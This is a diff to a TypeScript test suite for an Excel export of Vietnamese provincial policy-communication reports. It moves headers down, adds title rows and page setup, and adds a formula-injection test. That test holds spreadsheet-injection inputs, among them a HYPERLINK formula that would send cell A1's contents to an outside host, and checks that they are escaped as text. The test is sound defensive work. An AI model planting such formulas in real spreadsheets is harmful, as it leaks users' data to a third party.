@@ -167,10 +167,10 @@ describe('renderWorkbook', () => {
   it('gives every sheet a bold frozen header, an autoFilter over its rows and column widths', async () => {
     const workbook = await openWorkbook(await renderWorkbook(exportDataFixture()));
     for (const ws of workbook.worksheets) {
-      expect(ws.getRow(1).getCell(1).font?.bold, ws.name).toBe(true);
-      expect(ws.views[0], ws.name).toMatchObject({ state: 'frozen', ySplit: 1 });
-      const lastColumn = ws.getRow(1).cellCount;
-      expect(ws.autoFilter, ws.name).toBe(`A1:${String.fromCharCode(64 + lastColumn)}${ws.rowCount}`);
+      expect(ws.getRow(5).getCell(1).font?.bold, ws.name).toBe(true);
+      expect(ws.views[0], ws.name).toMatchObject({ state: 'frozen', ySplit: 5 });
+      const lastColumn = ws.getRow(5).cellCount;
+      expect(ws.autoFilter, ws.name).toBe(`A5:${String.fromCharCode(64 + lastColumn)}${ws.rowCount}`);
       for (let c = 1; c <= lastColumn; c += 1)
         expect(ws.getColumn(c).width, `${ws.name} column ${c}`).toBeGreaterThan(5);
     }
@@ -178,45 +178,86 @@ describe('renderWorkbook', () => {
 
   it('lists every agency with its status and submission time as a real date', async () => {
     const ws = sheet(await openWorkbook(await renderWorkbook(exportDataFixture())), 'Tổng hợp');
-    expect(ws.getRow(1).values).toEqual([
+    expect(ws.getRow(5).values).toEqual([
       undefined,
       'STT',
       'Cơ quan, đơn vị',
+      'Cán bộ đầu mối',
       'Tình trạng',
       'Thời điểm gửi',
       'Số báo cáo',
     ]);
-    const first = ws.getRow(2);
+    const first = ws.getRow(6);
     expect(first.getCell(1).value).toBe(1);
     expect(first.getCell(2).value).toBe(agencyNames.justice);
-    expect(first.getCell(3).value).toBe('Đúng hạn');
-    expect(first.getCell(4).value).toEqual(wallClock('2026-12-18T10:15:00'));
-    expect(first.getCell(4).numFmt).toBe('dd/mm/yyyy hh:mm');
-    expect(first.getCell(5).value).toBe('12/BC-STP');
-    expect(ws.getRow(5).getCell(3).value).toBe('Chưa gửi');
-    expect(ws.getRow(5).getCell(4).value).toBeNull();
+    expect(first.getCell(3).value).toBe('Nguyễn Văn An, Trần Thị Bình');
+    expect(first.getCell(4).value).toBe('Đúng hạn');
+    expect(first.getCell(5).value).toEqual(wallClock('2026-12-18T10:15:00'));
+    expect(first.getCell(5).numFmt).toBe('dd/mm/yyyy hh:mm');
+    expect(first.getCell(6).value).toBe('12/BC-STP');
+    expect(ws.getRow(9).getCell(3).value).toBe('(chưa có cán bộ)');
+    expect(ws.getRow(9).getCell(4).value).toBe('Chưa gửi');
+    expect(ws.getRow(9).getCell(5).value).toBeNull();
+  });
+
+  it('puts the network and the period above every table and prints landscape, one page wide', async () => {
+    const workbook = await openWorkbook(await renderWorkbook(exportDataFixture()));
+    for (const ws of workbook.worksheets) {
+      expect(ws.getRow(1).getCell(1).value, ws.name).toBe('Mạng lưới truyền thông chính sách tỉnh Vĩnh Phúc');
+      expect(ws.getRow(2).getCell(1).value, ws.name).toBe(
+        'Kỳ báo cáo: quý IV năm 2026 (số liệu từ 15/09/2026 đến 14/12/2026)',
+      );
+      expect(ws.getRow(3).getCell(1).value, ws.name).toBe('Xuất lúc 09:30 05/01/2027');
+      expect(ws.pageSetup, ws.name).toMatchObject({
+        orientation: 'landscape',
+        fitToPage: true,
+        fitToWidth: 1,
+        fitToHeight: 0,
+        paperSize: 9,
+        printTitlesRow: '5:5',
+      });
+    }
+  });
+
+  it('keeps texts that start like a formula as text (=, +, -, @)', async () => {
+    const data = exportDataFixture();
+    const evil = ['=HYPERLINK("http://x.vn/?d="&A1,"Xem")', '+1+2', '-2+3', '@SUM(1,2)'];
+    data.activities = data.activities.slice(0, 4).map((activity, i) => ({ ...activity, title: evil[i]! }));
+    data.agencies[0] = { ...data.agencies[0]!, name: '=1+1' };
+    const buffer = await renderWorkbook(data);
+    const zip = await JSZip.loadAsync(buffer);
+    for (const file of zip.file(/xl\/worksheets\/sheet\d+\.xml/)) {
+      const xml = await file.async('string');
+      expect(xml, file.name).not.toContain('<f>');
+    }
+    const workbook = await openWorkbook(buffer);
+    const titles: unknown[] = [];
+    sheet(workbook, 'Hoạt động').eachRow((row, n) => n > 5 && titles.push(row.getCell(5).value));
+    expect(titles).toEqual(expect.arrayContaining(evil.map((text) => `'${text}`)));
+    expect(sheet(workbook, 'Tổng hợp').getRow(6).getCell(2).value).toBe("'=1+1");
+    expect(sheet(workbook, 'Theo loại').getRow(6).getCell(4).value).toBe(-1);
   });
 
   it('puts every answer of every submission under its question', async () => {
     const ws = sheet(await openWorkbook(await renderWorkbook(exportDataFixture())), 'Báo cáo');
-    const headers = ws.getRow(1).values as unknown[];
+    const headers = ws.getRow(5).values as unknown[];
     expect(headers).toContain('Số tin, bài đăng trên cổng thông tin điện tử');
     expect(headers).not.toContain('Tình hình thực hiện nhiệm vụ được giao');
     const column = (prompt: string) => headers.indexOf(prompt);
-    const justice = ws.getRow(2);
+    const justice = ws.getRow(6);
     expect(justice.getCell(1).value).toBe(agencyNames.justice);
     expect(justice.getCell(2).value).toBeInstanceOf(Date);
     expect(justice.getCell(column('Số tin, bài đăng trên cổng thông tin điện tử')).value).toBe(24);
     expect(justice.getCell(column('Đã bố trí người phát ngôn')).value).toBe('Có');
     expect(justice.getCell(column('Kinh phí đã sử dụng (đồng)')).value).toBe(15_000_000);
-    expect(ws.getRow(3).getCell(3).value).toBe('Có');
-    expect(ws.getRow(3).getCell(4).value).toBe(2);
-    expect(ws.rowCount).toBe(4);
+    expect(ws.getRow(7).getCell(3).value).toBe('Có');
+    expect(ws.getRow(7).getCell(4).value).toBe(2);
+    expect(ws.rowCount).toBe(8);
   });
 
   it('lists task statuses per agency in their own sheet', async () => {
     const ws = sheet(await openWorkbook(await renderWorkbook(exportDataFixture())), 'Nhiệm vụ');
-    expect(ws.getRow(3).values).toEqual([
+    expect(ws.getRow(7).values).toEqual([
       undefined,
       agencyNames.justice,
       '1. Nhiệm vụ chung',
@@ -228,18 +269,18 @@ describe('renderWorkbook', () => {
 
   it('writes activities newest first with dates as Date cells in dd/mm/yyyy', async () => {
     const ws = sheet(await openWorkbook(await renderWorkbook(exportDataFixture())), 'Hoạt động');
-    const newest = ws.getRow(2);
+    const newest = ws.getRow(6);
     expect(newest.getCell(2).value).toEqual(wallClock('2026-12-10T10:30:00'));
     expect(newest.getCell(2).numFmt).toBe('dd/mm/yyyy');
-    expect(ws.getRow(3).getCell(7).value).toBe(120);
-    expect(ws.getRow(5).getCell(5).value).toBe('Họp báo quý III về dự thảo Nghị quyết');
+    expect(ws.getRow(7).getCell(7).value).toBe(120);
+    expect(ws.getRow(9).getCell(5).value).toBe('Họp báo quý III về dự thảo Nghị quyết');
   });
 
   it('counts activities per type and per agency as numbers', async () => {
     const workbook = await openWorkbook(await renderWorkbook(exportDataFixture()));
-    expect(sheet(workbook, 'Theo loại').getRow(2).values).toEqual([undefined, 'Họp báo', 1, 2, -1]);
+    expect(sheet(workbook, 'Theo loại').getRow(6).values).toEqual([undefined, 'Họp báo', 1, 2, -1]);
     const byAgency = sheet(workbook, 'Theo cơ quan');
-    expect(byAgency.getRow(1).values).toEqual([
+    expect(byAgency.getRow(5).values).toEqual([
       undefined,
       'Cơ quan, đơn vị',
       'Họp báo',
@@ -247,17 +288,17 @@ describe('renderWorkbook', () => {
       'Tập huấn, bồi dưỡng',
       'Tổng',
     ]);
-    expect(byAgency.getRow(2).values).toEqual([undefined, agencyNames.justice, 1, 1, 0, 2]);
+    expect(byAgency.getRow(6).values).toEqual([undefined, agencyNames.justice, 1, 1, 0, 2]);
   });
 
   it('keeps only the most recent activities past the cap and says how many were left out', async () => {
     const newest = new Date('2026-12-14T00:00:00Z');
     const data = { ...exportDataFixture(), activities: manyActivities(30, newest).reverse() };
     const ws = sheet(await openWorkbook(await renderWorkbook(data, { maxActivityRows: 10 })), 'Hoạt động');
-    expect(ws.autoFilter).toBe('A1:H11');
-    expect(ws.getRow(2).getCell(5).value).toBe('Tin bài số 0');
-    expect(ws.getRow(11).getCell(5).value).toBe('Tin bài số 9');
-    expect(String(ws.getRow(13).getCell(1).value)).toContain('20 hoạt động cũ hơn');
+    expect(ws.autoFilter).toBe('A5:H15');
+    expect(ws.getRow(6).getCell(5).value).toBe('Tin bài số 0');
+    expect(ws.getRow(15).getCell(5).value).toBe('Tin bài số 9');
+    expect(String(ws.getRow(17).getCell(1).value)).toContain('20 hoạt động cũ hơn');
   });
 
   // CPU time rather than wall time, so other processes on a busy machine do not make the test flaky.
@@ -267,14 +308,17 @@ describe('renderWorkbook', () => {
     const buffer = await renderWorkbook(data);
     const zip = await JSZip.loadAsync(buffer);
     const activitiesXml = await zip.file('xl/worksheets/sheet4.xml')!.async('string');
-    expect(activitiesXml).toContain('<autoFilter ref="A1:H100001"/>');
+    expect(activitiesXml).toContain('<autoFilter ref="A5:H100005"/>');
     expect(activitiesXml).toContain('20.000 hoạt động cũ hơn');
   }, 60_000);
 
-  it('still writes every sheet with only headers when nothing was collected', async () => {
+  it('still writes every sheet with only headers when nothing was collected, and says so', async () => {
     const workbook = await openWorkbook(await renderWorkbook(emptyExportData()));
     expect(workbook.worksheets).toHaveLength(6);
-    for (const ws of workbook.worksheets) expect(ws.rowCount, ws.name).toBe(1);
+    for (const ws of workbook.worksheets) {
+      expect(String(ws.getRow(4).getCell(1).value), ws.name).toMatch(/^Kỳ báo cáo .* chưa có số liệu/);
+      expect(ws.rowCount, ws.name).toBe(6);
+    }
   });
 });
 
